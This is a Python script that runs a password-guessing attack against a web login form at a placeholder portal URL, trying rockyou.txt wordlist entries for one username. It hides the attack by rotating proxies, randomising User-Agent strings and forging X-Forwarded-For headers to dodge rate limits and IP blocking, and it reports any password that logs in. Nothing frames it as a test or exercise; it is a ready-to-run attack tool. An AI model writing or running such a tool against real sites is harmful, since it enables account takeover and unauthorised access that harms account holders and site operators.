from __future__ import annotations
import random
import sys
import httpx

URL = "https://portal.example.com/login"
PROXIES = [l.strip() for l in open("proxies.txt")]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0)", "Mozilla/5.0 (Macintosh)"]


def attempt(user: str, pw: str) -> bool:
    with httpx.Client(proxy=random.choice(PROXIES), headers={
        "User-Agent": random.choice(AGENTS),
        "X-Forwarded-For": ".".join(str(random.randint(1, 250)) for _ in range(4)),
    }) as c:
        r = c.post(URL, data={"username": user, "password": pw}, follow_redirects=False)
        return r.status_code == 302 and "error" not in r.headers.get("location", "")


user = sys.argv[1]
with open("rockyou.txt", encoding="latin1") as words:
    for w in words:
        if attempt(user, w.strip()):
            print("valid:", user, w.strip())
            break
